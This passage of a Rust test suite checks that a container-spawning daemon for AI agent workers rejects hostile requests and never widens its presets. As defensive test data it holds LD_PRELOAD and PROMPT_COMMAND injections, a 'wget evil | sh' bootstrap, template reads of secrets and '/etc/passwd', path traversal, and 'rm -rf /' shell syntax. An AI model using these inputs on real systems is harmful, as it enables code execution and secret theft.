            json!({"env": {"ENV": "/home/worker/.orchestrator/prompt.md"}}),
            "x",
            "env.ENV",
        ),
        (
            "env LD_PRELOAD",
            "shell_v1",
            json!({"env": {"LD_PRELOAD": "/workspace/evil.so"}}),
            "x",
            "env.LD_PRELOAD",
        ),
        (
            "env PATH",
            "shell_v1",
            json!({"env": {"PATH": "/workspace"}}),
            "x",
            "env.PATH",
        ),
        (
            "env PROMPT_COMMAND",
            "shell_v1",
            json!({"env": {"PROMPT_COMMAND": "id"}}),
            "x",
            "env.PROMPT_COMMAND",
        ),
        (
            "env NODE_OPTIONS",
            "shell_v1",
            json!({"env": {"NODE_OPTIONS": "--require /workspace/x.js"}}),
            "x",
            "env.NODE_OPTIONS",
        ),
        (
            "env PYTHONSTARTUP",
            "shell_v1",
            json!({"env": {"PYTHONSTARTUP": "/home/worker/.orchestrator/prompt.md"}}),
            "x",
            "env.PYTHONSTARTUP",
        ),
        (
            "env PYTHONPATH",
            "shell_v1",
            json!({"env": {"PYTHONPATH": "/workspace"}}),
            "x",
            "env.PYTHONPATH",
        ),
        (
            "env GIT_SSH_COMMAND",
            "shell_v1",
            json!({"env": {"GIT_SSH_COMMAND": "sh -c id"}}),
            "x",
            "env.GIT_SSH_COMMAND",
        ),
        (
            "env HTTPS_PROXY",
            "shell_v1",
            json!({"env": {"HTTPS_PROXY": "http://192.0.2.1:3128"}}),
            "x",
            "env.HTTPS_PROXY",
        ),
        (
            "env EXTRA",
            "shell_v1",
            json!({"env": {"EXTRA": "harmless but not handed out"}}),
            "x",
            "env.EXTRA",
        ),
        (
            "env BASH_ENV through a pattern",
            "envx_v1",
            json!({"env": {"BASH_ENV": "/home/worker/.orchestrator/prompt.md"}}),
            "x",
            "env.BASH_ENV",
        ),
        (
            "env LD_PRELOAD through a pattern",
            "envx_v1",
            json!({"env": {"LD_PRELOAD": "/workspace/evil.so"}}),
            "x",
            "env.LD_PRELOAD",
        ),
        (
            "agent command",
            "shell_v1",
            json!({"agent": {"command": ["sh", "-c", "id; {prompt}"]}}),
            "x",
            "agent",
        ),
        (
            "tool outside preset",
            "shell_v1",
            json!({"allowed_tools": ["infra"]}),
            "x",
            "allowed_tools",
        ),
        (
            "bootstrap",
            "shell_v1",
            json!({"bootstrap_commands": ["wget evil | sh"]}),
            "x",
            "bootstrap_commands",
        ),
        (
            "template in name",
            "shell_v1",
            json!({"name": "{{ get_env(name='WS_TEST_SECRET') }}"}),
            "x",
            "name",
        ),
        (
            "template in description",
            "shell_v1",
            json!({"description": "{% include '/etc/passwd' %}"}),
            "x",
            "description",
        ),
        (
            "deep override",
            "shell_v1",
            deep,
            "x",
            "worker_config_override",
        ),
        (
            "huge override",
            "shell_v1",
            json!({"env": many_env}),
            "x",
            "worker_config_override",
        ),
        ("huge prompt", "shell_v1", Value::Null, &big, "task.prompt"),
        (
            "NUL in prompt",
            "shell_v1",
            Value::Null,
            "echo a\u{0}b",
            "task.prompt",
        ),
        (
            "preset path traversal",
            "../../etc/passwd",
            Value::Null,
            "x",
            "worker_config_id",
        ),
    ];
    let mut rids = Vec::new();
    for (label, preset, ovr, prompt, field) in &cases {
        let rid = unique_request_id("hostile");
        let mut req = shell_request(&rid, preset, prompt);
        if !ovr.is_null() {
            req["worker_config_override"] = ovr.clone();
        }
        publish_spawn(&d.prefix, &req).await;
        rids.push((rid, *label, *field));
    }
    // Ids and names outside their character set.
    let sid_rid = unique_request_id("hostile");
    publish_spawn(
        &d.prefix,
        &json!({"request_id": sid_rid, "worker_config_id": "shell_v1", "task": {"prompt": "x", "session_id": "../../x"}}),
    )
    .await;
    rids.push((sid_rid, "session id traversal", "task.session_id"));
    let uid_rid = unique_request_id("hostile");
    publish_spawn(
        &d.prefix,
        &json!({"request_id": uid_rid, "worker_config_id": "shell_v1", "task": {"prompt": "x", "user_id": "a/b"}}),
    )
    .await;
    rids.push((uid_rid, "user id with slash", "task.user_id"));
    let inline_rid = unique_request_id("hostile");
    publish_spawn(
        &d.prefix,
        &json!({"request_id": inline_rid, "worker_config_override": {"id": "x", "image": "ws-test-busybox:latest"}, "task": {"prompt": "x"}}),
    )
    .await;
    rids.push((inline_rid, "inline config", "worker_config_id"));
    let extra_rid = unique_request_id("hostile");
    publish_spawn(
        &d.prefix,
        &json!({"request_id": extra_rid, "worker_config_id": "shell_v1", "privileged": true, "task": {"prompt": "x"}}),
    )
    .await;
    rids.push((extra_rid, "unknown top-level field", "privileged"));

    for (rid, label, field) in &rids {
        let r = wait_result(&d.prefix, rid, RESULT_TIMEOUT).await;
        assert_eq!(r["status"], "rejected", "{label}: {r:#}");
        let got = r["error"]["field"].as_str().unwrap_or_default();
        assert!(
            got == *field || got.starts_with(&format!("{field}.")),
            "{label}: field {got:?}, want {field:?}: {r:#}"
        );
        assert!(
            !r["error"]["message"]
                .as_str()
                .unwrap_or_default()
                .is_empty(),
            "{label}"
        );
    }

    // Entries with no usable request id go to the dead letters.
    let before = dead_letters(&d.prefix).await.len();
    publish_raw(
        &d.prefix,
        b"{\"request_id\":\"../../etc\",\"task\":{\"prompt\":\"x\"}}",
    )
    .await;
    publish_raw(&d.prefix, b"\xff\xfe{\"request_id\":\"r\"}").await;
    publish_raw(&d.prefix, &vec![b' '; 2 * 1024 * 1024]).await;
    publish_raw(&d.prefix, "[".repeat(100_000).as_bytes()).await;
    let deadline = Instant::now() + Duration::from_secs(30);
    while dead_letters(&d.prefix).await.len() < before + 4 {
        assert!(
            Instant::now() < deadline,
            "{:#?}",
            dead_letters(&d.prefix).await
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let dead = dead_letters(&d.prefix).await;
    let reasons: Vec<&str> = dead.iter().filter_map(|v| v["reason"].as_str()).collect();
    for want in ["request_id", "UTF-8", "limit", "JSON"] {
        assert!(
            reasons.iter().any(|r| r.contains(want)),
            "no dead letter mentions {want}: {reasons:#?}"
        );
    }
    // Nothing ran, and the daemon still serves, also at the CPU floor.
    assert_eq!(container_count(&d.prefix).await, 0);
    let ok = unique_request_id("alive");
    let mut req = shell_request(&ok, "shell_v1", "echo alive");
    req["worker_config_override"] = json!({"limits": {"cpu": 0.01}});
    publish_spawn(&d.prefix, &req).await;
    let r = wait_result(&d.prefix, &ok, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
}

/// Results, `rejected` events and dead letters an unreadable entry left.
async fn traces(prefix: &str, rid: &str, entry_id: &str) -> (usize, usize, usize) {
    let results = results_for(prefix, rid).await.len();
    let rejected = events_for(prefix, rid)
        .await
        .iter()
        .filter(|e| e["type"] == "rejected")
        .count();
    let dead = dead_letters(prefix)
        .await
        .iter()
        .filter(|v| v["entry_id"] == entry_id)
        .count();
    (results, rejected, dead)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreadable_entries_with_an_id_get_one_rejected_result_and_a_dead_letter() {
    let presets = security_presets();
    let opts = DaemonOpts::new("sec-unreadable").presets_dir(presets.path());
    let mut d = Daemon::start(opts.clone());
    let mib = 1024 * 1024;
    let deep = format!("{}1{}", "[".repeat(10_000), "]".repeat(10_000));
    let rid = |tag: &str| unique_request_id(tag);
    // (request id, entry, field, words the message must hold)
    let (big, deep_id, utf8) = (rid("big"), rid("deep"), rid("utf8"));
    let mut non_utf8 = format!(
        r#"{{"request_id": "{utf8}", "worker_config_id": "shell_v1", "task": {{"prompt": "echo "#
    )
    .into_bytes();
    non_utf8.extend_from_slice(b"\xff\xfe\"}}");
    let cases: Vec<(String, Vec<u8>, &str, Vec<String>)> = vec![
        (
            // The id after a 4 MiB prompt holding a quoted fake id.
            big.clone(),
            format!(
                r#"{{"worker_config_id": "shell_v1", "task": {{"prompt": "\"request_id\": \"fake\" {}"}}, "request_id": "{big}"}}"#,
                "x".repeat(4 * mib)
            )
            .into_bytes(),
            "task.prompt",
            vec!["262144".into(), "1048576".into()],
        ),
        (
            deep_id.clone(),
            format!(
                r#"{{"request_id": "{deep_id}", "worker_config_id": "shell_v1", "worker_config_override": {{"env": {deep}}}, "task": {{"prompt": "x"}}}}"#
            )
            .into_bytes(),
            "worker_config_override",
            vec!["10001 levels".into(), "limit is 8".into()],
        ),
        (utf8.clone(), non_utf8, "task.prompt", vec!["UTF-8".into()]),
    ];
    let mut sent = Vec::new();
    for (rid, data, field, words) in &cases {
        let entry_id = publish_raw(&d.prefix, data).await;
        sent.push((rid.clone(), entry_id, *field, words.clone()));
    }
    // Without a usable id: dead letters alone.
    let mut orphans = Vec::new();
    for data in [
        format!(r#"{{"task": {{"prompt": "{}"}}}}"#, "x".repeat(2 * mib)),
        format!(
            r#"{{"request_id": "../../x", "task": {{"prompt": "{}"}}}}"#,
            "x".repeat(2 * mib)
        ),
        format!(r#"{{"worker_config_override": {deep}, "task": {{"prompt": "x"}}}}"#),
    ] {
        orphans.push(publish_raw(&d.prefix, data.as_bytes()).await);
    }

    for (rid, entry_id, field, words) in &sent {
        let r = wait_result(&d.prefix, rid, RESULT_TIMEOUT).await;
        assert_eq!(r["status"], "rejected", "{r:#}");
        assert_eq!(r["error"]["field"], *field, "{r:#}");
        let message = r["error"]["message"].as_str().unwrap_or_default();
        for w in words {
            assert!(
                message.contains(w.as_str()),
                "{rid}: {message:?} lacks {w:?}"
            );
        }
        let dl = wait_dead_letter(&d.prefix, RESULT_TIMEOUT, |v| v["entry_id"] == *entry_id).await;
        assert!(
            dl["reason"].as_str().unwrap_or_default().contains(field),
            "{dl:#}"
        );
    }
    for entry_id in &orphans {
        wait_dead_letter(&d.prefix, RESULT_TIMEOUT, |v| v["entry_id"] == *entry_id).await;
    }
    // The fake id inside the prompt and the invalid ones got nothing.
    let results = all_results(&d.prefix).await;
    assert_eq!(results.len(), sent.len(), "{results:#?}");

    // The same oversized request published again while the daemon runs,
    // and once more left unacknowledged in the daemon's own pending list
    // (as if it had died after publishing the result): each entry is
    // dead-lettered, the request keeps its one result and one event.
    let again = publish_raw(&d.prefix, &cases[0].1).await;
    wait_dead_letter(&d.prefix, RESULT_TIMEOUT, |v| v["entry_id"] == again).await;
    d.cleanup_on_drop = false;
    assert!(d.terminate().is_some(), "daemon did not stop");
    let s = streams(&d.prefix);
    let redelivered = publish_raw(&d.prefix, &cases[0].1).await;
    let mut c = redis_conn().await;
    let _: redis::Value = redis::cmd("XREADGROUP")
        .arg("GROUP")
        .arg("workers-spawner")
        .arg(&d.instance_id)
        .arg("COUNT")
        .arg(1)
        .arg("STREAMS")
        .arg(&s.spawn)
        .arg(">")
        .query_async(&mut c)
        .await
        .unwrap();
    let d2 = Daemon::start(
        opts.prefix(&d.prefix.clone())
            .instance_id(&d.instance_id.clone()),
    );
    let dl = wait_dead_letter(&d2.prefix, RESULT_TIMEOUT, |v| v["entry_id"] == redelivered).await;
    assert_eq!(dl["deliveries"], 2, "a redelivery: {dl:#}");
    let deadline = Instant::now() + Duration::from_secs(10);
    while pending_count(&d2.prefix).await > 0 {
        assert!(Instant::now() < deadline, "entries left pending");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    for entry in [&sent[0].1, &again, &redelivered] {
        assert_eq!(
            traces(&d2.prefix, &big, entry).await,
            (1, 1, 1),
            "entry {entry}"
        );
    }
    for (rid, entry_id, _, _) in &sent[1..] {
        assert_eq!(traces(&d2.prefix, rid, entry_id).await, (1, 1, 1), "{rid}");
    }
    assert_eq!(container_count(&d2.prefix).await, 0);
}

/// An override sets only env names its preset hands out; those reach the
/// agent (the refusals are in `hostile`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_override_sets_the_env_names_its_preset_hands_out() {
    let presets = security_presets();
    let d = Daemon::start(DaemonOpts::new("sec-envx").presets_dir(presets.path()));
    let rid = unique_request_id("envx");
    let mut req = shell_request(&rid, "envx_v1", "echo \"mode=$MODE app=$APP_X\"");
    req["worker_config_override"] = json!({"env": {"MODE": "b", "APP_X": "y"}});
    publish_spawn(&d.prefix, &req).await;
    let r = wait_result(&d.prefix, &rid, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    assert!(
        r["output"].as_str().unwrap().contains("mode=b app=y"),
        "{r:#}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn template_and_shell_syntax_in_a_prompt_reach_the_agent_verbatim() {
    let d = Daemon::start(DaemonOpts::new("sec-verbatim"));
    let prompt = "{{ get_env(name=\"WS_TEST_SECRET\") }} {% for x in [1,2] %}{{x}}{% endfor %} {prompt} $(id) `id` ${HOME}; rm -rf / && echo pwned | ../../etc";
    let rid = unique_request_id("verbatim");
    publish_spawn(&d.prefix, &spawn_request(&rid, "echo_v1", prompt)).await;
    let r = wait_result(&d.prefix, &rid, RESULT_TIMEOUT).await;
    assert_eq!(r["status"], "succeeded", "{r:#}");
    let out = r["output"].as_str().unwrap();
    assert!(
        out.lines().any(|l| l == format!("prompt={prompt}")),
        "the prompt was altered:\n{out}"
    );
    assert!(!out.contains("uid="), "{out}");
}

// ---------------------------------------------------------------- properties

fn repo_path(p: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(p)
}

fn schema() -> &'static ConfigSchema {
    static SCHEMA: OnceLock<ConfigSchema> = OnceLock::new();
    SCHEMA.get_or_init(ConfigSchema::new)
}

fn catalog() -> &'static Catalog {
    static CATALOG: OnceLock<Catalog> = OnceLock::new();
    CATALOG.get_or_init(|| {
        let dirs = CatalogDirs {
            presets: repo_path("presets"),
            skills: repo_path("skills"),
            templates: repo_path("templates"),
        };
        let (catalog, issues) = loader::load(&dirs, schema(), None);
        assert!(issues.is_empty(), "{issues:?}");
        catalog
    })
}

/// Any JSON, with keys and strings drawn from the request's vocabulary.
fn arb_value() -> impl Strategy<Value = Value> {
    let word = prop::sample::select(vec![
        "request_id",
        "worker_config_id",
        "worker_config_override",
        "task",
        "prompt",
        "session_id",
        "user_id",
        "dry_run",
        "po_claude_v1",
        "developer_codex_v1",
        "limits",
        "memory",
        "cpu",
        "image",
        "env",
        "from_env",
        "security",
        "cap_add",
        "allowed_tools",
        "admin",
        "../x",
        "{{x}}",
        "a\u{0}b",
        "r1",
        "",
    ])
    .prop_map(String::from);
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>()
            .prop_map(|f| serde_json::Number::from_f64(f).map_or(Value::Null, Value::Number)),
        word.clone().prop_map(Value::from),
        ".{0,40}".prop_map(Value::from),
    ];
    leaf.prop_recursive(6, 64, 6, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..5).prop_map(Value::from),
            prop::collection::btree_map(word.clone(), inner, 0..6)
                .prop_map(|m| Value::Object(m.into_iter().collect())),
        ]
    })
}

proptest! {
    // Bounded for CI: a few thousand cases, well under a minute.
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    /// Arbitrary bytes never panic the parser; what it accepts is well formed.
    #[test]
    fn parsing_arbitrary_bytes_never_panics(data in prop::collection::vec(any::<u8>(), 0..4096)) {
        if let Ok(r) = parse_spawn_request(&data, &InputLimits::default()) {
            prop_assert!(!r.request_id.is_empty() && r.request_id.len() <= 128);
            prop_assert!(!r.task.prompt.contains('\0'));
        }
    }

    /// The bounded scan of unreadable entries reads the same top-level
    /// `request_id` the parser reads, wherever it stands among random
    /// members (escaped keys and strings, nested look-alikes).
    #[test]
    fn the_scan_reads_the_request_id_the_parser_reads(
        v in arb_value(),
        id in prop_oneof!["[A-Za-z0-9._:-]{1,130}", "[ -~]{0,12}", ".{0,6}"],
        pos in 0usize..8,
    ) {
        let mut members: Vec<(String, Value)> = match v {
            Value::Object(m) => m.into_iter().collect(),
            other => vec![("x".to_string(), other)],
        };
        members.retain(|(k, _)| k != "request_id");
        members.insert(pos.min(members.len()), ("request_id".to_string(), json!(id)));
        let body: Vec<String> = members.iter().map(|(k, v)| format!("{}: {v}", json!(k))).collect();
        let text = format!("{{{}}}", body.join(", "));
        let scan = scan_entry(text.as_bytes(), &InputLimits::default());
        let parsed: Value = serde_json::from_str(&text).unwrap();
        prop_assert_eq!(parsed["request_id"].as_str(), Some(id.as_str()));
        prop_assert_eq!(scan.request_id, is_valid_request_id(&id).then_some(id));
        prop_assert!(scan.complete);
    }

    /// Byte-level mutations of a valid request never panic the parser, and
    /// whatever still parses respects the input rules.
    #[test]
    fn mutated_requests_never_panic_and_stay_well_formed(
        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 1..8),
    ) {
        let mut data = json!({
            "request_id": "req_1", "worker_config_id": "po_claude_v1",
            "worker_config_override": {"limits": {"timeout_sec": 30}, "env": {"A": "b"}},
            "task": {"prompt": "do it", "session_id": "s1", "user_id": "u1"}, "dry_run": false
        }).to_string().into_bytes();
        for (at, byte, op) in edits {
            let i = at.index(data.len().max(1));
            match op {
                0 if i < data.len() => data[i] = byte,
                1 => data.insert(i.min(data.len()), byte),
                _ if i < data.len() => { data.remove(i); }
                _ => {}
            }
        }
        if let Ok(r) = parse_spawn_request(&data, &InputLimits::default()) {
            let ok = |s: &str| s.chars().all(|c| c.is_ascii_alphanumeric() || "._:-".contains(c));
            prop_assert!(ok(&r.request_id));
            prop_assert!(r.task.session_id.as_deref().is_none_or(ok));
            prop_assert!(r.task.user_id.as_deref().is_none_or(ok));
            prop_assert!(!r.task.prompt.contains('\0') && !r.task.prompt.trim().is_empty());
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    /// Whole random payloads through parse, merge, policy and render: no
    /// panic, and nothing accepted widens its preset.
    #[test]
    fn random_payloads_through_the_whole_resolution_never_panic_or_widen(
        v in arb_value(),
        preset in prop::sample::select(vec!["po_claude_v1", "developer_codex_v1"]),
        patch in arb_value(),
    ) {
        // Half the time a well-formed envelope around random parts.
        let payloads = [
            v.to_string(),
            json!({
                "request_id": "r1", "worker_config_id": preset,
                "worker_config_override": patch, "task": {"prompt": "p"},
            }).to_string(),
        ];
        let limits = InputLimits::default();
        let policy = Settings::default().policy;
        let env = |k: &str| Some(format!("secret-{k}"));
        for data in payloads {
            let Ok(req) = parse_spawn_request(data.as_bytes(), &limits) else { continue };
            let resolver = Resolver { catalog: catalog(), schema: schema(), policy: &policy, limits: &limits, env: &env };
            let Ok(spec) = resolver.resolve(&req) else { continue };
            let Some(base) = req.worker_config_id.as_ref().and_then(|id| catalog().presets.get(id)) else {
                prop_assert!(false, "an inline config was accepted by the default policy");
                continue;
            };
            let (b, c) = (&base.config, &spec.config);
            prop_assert!(c.allowed_tools.iter().all(|t| b.allowed_tools.contains(t)));
            prop_assert!(c.limits.cpu <= b.limits.cpu);
            prop_assert!(c.limits.memory_bytes().unwrap() <= b.limits.memory_bytes().unwrap());
            prop_assert!(c.limits.timeout_sec <= b.limits.timeout_sec);
            prop_assert!(c.limits.ttl_sec <= b.limits.ttl_sec);
            prop_assert!(c.limits.pids() <= b.limits.pids());
            prop_assert!(!c.has_internet || b.has_internet);
            prop_assert!(c.security.cap_add.iter().all(|x| b.security.cap_add.contains(x)));
            prop_assert!(c.security.read_only_root >= b.security.read_only_root);
            prop_assert!(
                image_ref::normalize(&c.image) == image_ref::normalize(&b.image)
                    || image_ref::is_allowed(&c.image, &policy.allowed_images)
            );
            prop_assert_eq!(&c.agent, &b.agent);
            prop_assert_eq!(&c.network, &b.network);
            for k in b.env.keys().chain(c.env.keys()) {
                if b.env.get(k) != c.env.get(k) {
                    prop_assert!(b.env_overridable_allows(k), "env {} changed", k);
                }
            }
            for f in spec.files.iter().chain(&spec.request_files) {
                prop_assert!(f.path.starts_with("/workspace/") || f.path.starts_with("/home/worker/"), "{}", f.path);
                prop_assert!(!f.path.contains(".."), "{}", f.path);
            }
        }
    }
}
